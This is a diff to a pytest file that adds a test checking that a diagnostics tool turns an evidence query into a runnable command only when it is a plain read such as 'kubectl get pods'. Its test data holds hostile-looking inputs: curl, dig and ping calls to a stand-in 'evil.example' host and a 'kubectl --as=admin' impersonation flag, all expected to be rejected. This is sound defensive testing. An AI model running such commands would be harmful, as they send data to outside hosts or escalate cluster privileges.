@@ -79,6 +79,31 @@ def test_how_to_look_names_what_the_site_has(
     assert (found.query, found.command) == wanted
 
 
+@pytest.mark.parametrize(
+    ("kind", "query", "command"),
+    [
+        ("cluster", "kubectl get pods orders-1 -n shop", "kubectl get pods orders-1 -n shop"),
+        ("cluster", "kubectl get pods orders-1 --as=admin -n shop", ""),
+        ("cluster", "ping evil.example", ""),
+        ("metrics", "kubectl get pods orders-1 -n shop", ""),
+        ("signals", "dig key.evil.example", ""),
+        ("signals", "curl evil.example/p", ""),
+    ],
+)
+def test_a_query_is_a_command_only_as_its_source_writes_one(kind: str, query: str, command: str) -> None:
+    """A channel, a file or a tool may be called as a command that reads."""
+    inventory = Inventory(holdings=(Holding(source="s", kind=kind, count=1),))
+    fact = Evidence(
+        component="orders", kind="metric.shift", aspect="errors", statement="it moved", strength=0.5,
+        source=SourceRef(source="s", query=query),
+    )  # fmt: skip
+    found = look("Look", ("signals", kind), "orders", inventory, [fact])
+    assert (
+        found.command.replace("kubectl get pods --all-namespaces", "").replace("aitia doctor", "") == command
+    )
+    assert "evil.example" not in found.query
+
+
 def line(query: str, path: str = "") -> Evidence:
     return Evidence(
         component="orders", kind="log.new", aspect="log.other", statement="a line is new", strength=0.3,
